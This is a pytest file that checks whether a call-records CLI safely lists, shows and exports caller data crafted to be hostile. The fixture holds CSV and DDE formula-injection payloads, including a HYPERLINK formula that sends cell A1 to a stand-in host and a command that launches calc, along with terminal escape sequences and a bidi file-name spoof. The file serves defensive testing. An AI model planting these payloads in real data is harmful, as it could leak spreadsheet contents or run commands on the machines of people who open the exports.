"""`calls list/show/export` with records a hostile caller shaped: nothing runs, nothing hides."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from coverage_engine.cli import main
from coverage_engine.journey import Ended, EventKind, Outcome, Received, parse_event
from coverage_engine.records import acknowledged
from coverage_engine.records.sqlite import SqliteRecorder

AT = datetime(2026, 3, 10, 7, 30, tzinfo=UTC)
OSC_TITLE = "\x1b]0;owned\x07"
RLO = "\u202e"

# (call id, caller number, caller name) as a carrier could deliver them.
HOSTILE = [
    ("formula", "+15557654321", '=HYPERLINK("http://x.example/?"&A1,"Call back")'),
    ("dde", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("terminal", f"+1555{OSC_TITLE}0100", f"Jane{OSC_TITLE}\x1b[2J Doe"),
    ("bidi", "+15550100999", f"Bob {RLO}gnp.exe"),
    ("tab", "\t+15550100", "\r=1+1"),
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
async def db(tmp_path: Path) -> Path:
    """A record file whose callers chose hostile numbers and names."""
    path = tmp_path / "calls.db"
    rec, _ = SqliteRecorder.open(path, now=AT)
    # The decision's reason repeats the caller's name, as an event detail would.
    answered = Outcome.ANSWERED_BY_OPERATOR
    for n, (call_id, number, name) in enumerate(HOSTILE):
        at = AT + timedelta(minutes=n)
        decided = {"practice": "maple", "status": "closed", "reason": f"night for {name}"}
        await acknowledged(
            rec.write(call_id, at, Received("+15550100", number, name)),
            rec.write(call_id, at, parse_event(EventKind.DECIDED, decided)),
            rec.write(call_id, at + timedelta(seconds=30), Ended(answered)),
        )
    rec.close()
    return path


def assert_safe_for_a_terminal(out: str) -> None:
    for line in out.splitlines():
        assert line.isprintable(), repr(line)


def test_the_csv_export_keeps_every_formula_as_text(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """No cell of the export starts like a formula; the hostile ones are prefixed with `'`."""
    assert main(["calls", "export", "--db", str(db)]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))

    assert len(rows) == len(HOSTILE)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_START), (column, cell)
            assert cell.isprintable(), (column, cell)
    by_id = {row["call_id"]: row for row in rows}
    assert by_id["formula"]["caller_name"] == '\'=HYPERLINK("http://x.example/?"&A1,"Call back")'
    assert by_id["dde"]["caller_number"] == "'+cmd|' /C calc'!A0"
    assert by_id["tab"]["caller_number"] == "'\\x09+15550100"


def test_the_jsonl_export_keeps_the_values_as_stored(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Machines get the stored text exactly (JSON escapes it), spreadsheets get text cells."""
    assert main(["calls", "export", "--db", str(db), "--format", "jsonl"]) == 0
    out = capsys.readouterr().out
    assert_safe_for_a_terminal(out)
    names = [json.loads(line)["caller_name"] for line in out.splitlines()]
    assert names == [name for _, _, name in HOSTILE]


def test_calls_list_shows_escapes_not_escape_sequences(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The OSC title change in a caller number is printed as `\\x1b]0;owned\\x07`, not obeyed."""
    assert main(["calls", "list", "--db", str(db)]) == 0
    out = capsys.readouterr().out
    assert_safe_for_a_terminal(out)
    assert "+1555\\x1b]0;owned\\x070100" in out


def test_calls_show_shows_escapes_not_escape_sequences(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Name, number and the event details that repeat the name are all escaped."""
    for call_id in ("terminal", "bidi"):
        assert main(["calls", "show", call_id, "--db", str(db)]) == 0
        out = capsys.readouterr().out
        assert_safe_for_a_terminal(out)
    assert "Bob \\u202egnp.exe" in out
    assert "reason=night for Bob \\u202egnp.exe" in out
